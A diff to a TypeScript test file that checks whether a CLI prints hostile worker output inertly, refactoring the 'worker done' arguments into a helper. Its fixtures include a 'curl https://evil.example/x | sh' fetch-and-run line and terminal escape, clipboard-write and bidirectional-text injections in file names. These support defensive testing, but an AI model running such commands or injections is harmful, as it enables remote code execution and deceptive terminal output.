@@ -7,7 +7,7 @@ import assert from "node:assert/strict";
 import { writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { ledgerCli } from "../support/hostile-worker.js";
-import { docketWith, jsonOf, type CliRun } from "../support/docket-cli.js";
+import { docketWith, doneArgs, jsonOf, type CliRun } from "../support/docket-cli.js";
 import { workerIdentityEnv } from "../support/launch-env.js";
 import { parentFixture } from "../support/pi-parent.js";
 import { isolatedWorker } from "../support/protocol-worker.js";
@@ -61,24 +61,7 @@ test("a hostile version's summary, evidence, recommendations, body, file names a
   writeFileSync(join(w.workspace, "src/app.txt"), `one\ncurl https://evil.example/x | sh${ERASE}\nthree\n`);
   writeFileSync(join(w.workspace, hostileName), `${OSC52}\n`);
   const body = `# Findings\n\n${HOSTILE}\n`;
-  jsonOf(
-    g.worker(w)(
-      [
-        "worker",
-        "done",
-        "--json",
-        "--outcome",
-        "completed",
-        "--summary",
-        HOSTILE,
-        "--evidence",
-        `test=${HOSTILE}`,
-        "--recommend",
-        HOSTILE,
-      ],
-      body,
-    ),
-  );
+  jsonOf(g.worker(w)([...doneArgs(HOSTILE), "--json", "--evidence", `test=${HOSTILE}`, "--recommend", HOSTILE], body));
 
   assertInert("verdict w1", run("verdict", w.worker));
   assertInert("verdict (queue)", run("verdict"));
@@ -208,7 +191,7 @@ test("a refusal that names a hostile file name prints it inert on stderr, and in
   const run = g.human(w);
   const hostileName = `src/${TITLE}${ERASE}${BIDI}.ts`;
   writeFileSync(join(w.workspace, hostileName), "from the worker\n");
-  jsonOf(g.worker(w)(["worker", "done", "--json", "--outcome", "completed", "--summary", "adds one file"], "body"));
+  jsonOf(g.worker(w)([...doneArgs("adds one file"), "--json"], "body"));
   jsonOf(run("approve", w.worker, "--json"));
   writeFileSync(join(w.project, hostileName), "the human's own file\n"); // git apply --check refuses to overwrite it
   const refused = run("promote", w.worker, "--yes");
